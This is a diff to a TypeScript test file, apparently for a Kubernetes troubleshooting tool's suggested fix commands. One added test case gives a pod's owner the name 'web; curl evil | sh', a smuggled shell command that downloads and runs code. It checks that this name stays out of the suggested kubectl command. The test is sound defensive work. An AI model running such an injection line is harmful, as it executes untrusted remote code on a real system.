@@ -13,6 +13,11 @@ import {
 
 const UNSERVED = { kind: 'unserved' } as const;
 const withSpec = (spec: object) => withStore({ resource: found(documents(spec)) });
+const ownedBy = (kind: string, name: string) => {
+  const worker = pod('worker-2');
+  const owner = { apiVersion: 'apps/v1', kind, name, uid: '2', controller: true };
+  return { ...worker, metadata: { ...worker.metadata, ownerReferences: [owner] } };
+};
 const waiting = (reason: string, message?: string) => ({
   ...injected('worker-1'),
   status: {
@@ -64,8 +69,13 @@ const STORE: readonly Row[] = [
       'pods',
       'problem',
       'pods worker-2, worker-3: it has no sidecar',
-      'restart deployment worker',
+      'rollout restart deployment/worker',
     ] as const),
+  ],
+  [
+    'a pod whose owner has a command for a name',
+    withPods(ownedBy('StatefulSet', 'web; curl evil | sh')),
+    ...(['pods', 'problem', 'pod worker-2', /^kubectl -n billing delete pod worker-2$/] as const),
   ],
   [
     'many pods without a sidecar',
